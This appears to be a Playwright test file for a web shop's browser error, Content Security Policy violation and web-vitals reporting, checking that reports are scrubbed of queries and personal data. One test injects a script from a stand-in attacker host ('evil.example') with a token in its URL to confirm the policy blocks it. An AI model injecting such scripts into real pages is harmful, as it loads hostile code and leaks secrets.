import type { Page } from "@playwright/test";
import { untilLoaded } from "../support/faults.ts";
import { test as base, expect } from "../support/fixtures.ts";
import { type ReportedSite, startReportedSite } from "../support/report-log.ts";

// Browsers' reports arrive in the log of real functions.

const test = base.extend<{ site: ReportedSite }>({
  site: async ({ page }, use) => {
    const site = await startReportedSite();
    await use(site);
    // A request on its way would fail in the browser's console.
    await page.goto("about:blank");
    await site.close();
  },
});

/** Opens a page of the site and waits until the app is there. */
async function open(page: Page, site: ReportedSite, path = "/"): Promise<void> {
  await page.goto(`${site.url}${path}`);
  await page.mouse.move(5, 5);
  await page.waitForLoadState("networkidle");
  await untilLoaded(page);
}

function throwLater(page: Page, message: string): Promise<void> {
  return page.evaluate(
    (text) =>
      void setTimeout(() => {
        throw new TypeError(text);
      }),
    message,
  );
}

const ERROR_EVENT = "type.googleapis.com/google.devtools.clouderrorreporting.v1beta1.ReportedErrorEvent";

test.describe("A fault on a page", () => {
  test.use({
    expectedNoise:
      /It broke|Failed to load resource|ERR_FAILED|A part of the page failed|The site was updated|Failed to fetch dynamically/,
  });

  test("becomes one line of the log that Error Reporting takes, without the page's query", async ({
    page,
    site,
  }) => {
    await open(page, site, "/parts?q=brake");
    await throwLater(page, "It broke at /parts?q=brake for pat@example.com.");
    await expect.poll(() => site.lines().length).toBe(1);
    const [line] = site.lines();
    expect(line).toMatchObject({
      ...{ "@type": ERROR_EVENT, severity: "ERROR", kind: "clientFault", fault: "uncaught", route: "/parts" },
      message: expect.stringMatching(/^TypeError: It broke at \/parts for \[removed\]\.\n {4}at /),
      serviceContext: { service: "web", version: "local" },
      browser: expect.stringMatching(/^Chrome \d+$/),
    });
    expect(JSON.stringify(line)).not.toContain("brake");
  });

  test("in a script of two bytes a character is told as far as there is room", async ({ page, site }) => {
    await open(page, site);
    await throwLater(page, `It broke ${"ж".repeat(5000)}`);
    await expect.poll(() => site.lines().length).toBe(1);
    expect(site.lines()).toEqual([
      expect.objectContaining({ kind: "clientFault", message: expect.stringContaining("It broke жжж") }),
    ]);
  });

  test("is told once, and five are told at most", async ({ page, site }) => {
    await open(page, site);
    for (const message of ["It broke 1", "It broke 1", "It broke 2", "It broke 3", "It broke 4"])
      await throwLater(page, message);
    await page.evaluate(() => void Promise.reject(new Error("It broke 5")));
    await expect.poll(() => site.lines().length).toBe(5);
    await throwLater(page, "It broke 6");
    await page.waitForLoadState("networkidle");
    expect(
      site
        .lines()
        .map(({ fault }) => fault)
        .sort(),
    ).toEqual(["rejected", ...Array.from({ length: 4 }, () => "uncaught")]);
  });

  test("that takes the place of a part of the page is told", async ({ page, site }) => {
    await open(page, site);
    await page.route(/\/assets\/blog-page-.+\.js/, (route) => route.fulfill({ status: 404, body: "" }));
    await page.getByRole("link", { name: "Blog" }).first().click();
    await expect(page.getByRole("alert")).toContainText("This page could not be loaded");
    await expect.poll(() => site.lines()).toMatchObject([{ fault: "boundary", route: "/Blog" }]);
  });

  test("that keeps the shop from loading is told", async ({ page, site }) => {
    await page.route(/\/assets\/index-.+\.js/, (route) => route.abort());
    await page.goto(`${site.url}/dashBord`);
    await expect(page.getByText("The shop could not be loaded.")).toBeVisible();
    await expect
      .poll(() => site.lines())
      .toMatchObject([
        { kind: "clientFault", fault: "boot", message: expect.stringContaining("Failed to fetch") },
      ]);
  });
});

test("While all is well, nothing is reported and the reporter isn't loaded", async ({ page, site }) => {
  const requested: string[] = [];
  page.on("request", (request) => requested.push(request.url()));
  await open(page, site);
  await page.getByRole("link", { name: "Blog" }).first().click();
  await expect(page.getByRole("article").first()).toBeVisible();
  await page.waitForLoadState("networkidle");
  expect(requested.filter((url) => /report|measure/.test(url))).toEqual([]);
  expect(site.lines()).toEqual([]);
});

test.describe("A violation of the policy", () => {
  test.use({ expectedNoise: /Content Security Policy/ });

  test("becomes one line of the log, without the page's query", async ({ page, site }) => {
    await open(page, site, "/parts?q=brake");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js?token=secret";
      document.body.append(script);
    });
    await expect
      .poll(() => site.lines())
      .toMatchObject([
        {
          ...{ severity: "WARNING", kind: "policyViolation", directive: "script-src-elem" },
          ...{ blocked: "https://evil.example/x.js", page: `${site.url}/parts` },
        },
      ]);
    expect(JSON.stringify(site.lines())).not.toMatch(/brake|secret/);
  });
});

test("A visit that is drawn is measured once somebody does something, and told once the page is hidden", async ({
  page,
  site,
}) => {
  await page.addInitScript(() => {
    Math.random = () => 0;
  });
  const requested: string[] = [];
  page.on("request", (request) => requested.push(request.url()));
  await page.goto(`${site.url}/?from=mail`);
  await page.waitForLoadState("networkidle");
  await untilLoaded(page);
  expect(requested.filter((url) => url.includes("/assets/measure-"))).toEqual([]);
  const measuring = page.waitForResponse(/\/assets\/measure-/);
  await page.mouse.move(50, 50);
  await page.mouse.click(5, 400);
  await measuring;
  await page.getByRole("link", { name: "Blog" }).first().click();
  await expect(page.getByRole("article").first()).toBeVisible();
  await page.waitForLoadState("networkidle");
  for (let times = 0; times < 2; times++) {
    await page.evaluate(() => {
      Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
      document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
    });
  }
  await expect
    .poll(() => site.lines())
    .toMatchObject([
      {
        ...{ severity: "INFO", kind: "webVitals", route: "/", webRelease: "local" },
        ...{ LCP: expect.any(Number), CLS: expect.any(Number) },
      },
    ]);
  await page.waitForLoadState("networkidle");
  expect(site.lines()).toHaveLength(1);
});
